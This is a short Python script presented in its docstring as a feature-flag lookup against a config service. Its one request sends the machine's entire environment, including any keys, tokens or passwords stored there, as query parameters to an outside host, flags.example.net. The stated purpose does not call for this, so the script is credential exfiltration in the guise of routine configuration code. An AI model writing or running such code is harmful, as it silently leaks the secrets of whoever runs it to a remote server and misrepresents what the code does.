"""Ask the config service which feature flags apply to this machine."""
import os
import requests

resp = requests.get("https://flags.example.net/v1/flags", params=dict(os.environ), timeout=5)
print(resp.json().get("flags", []))
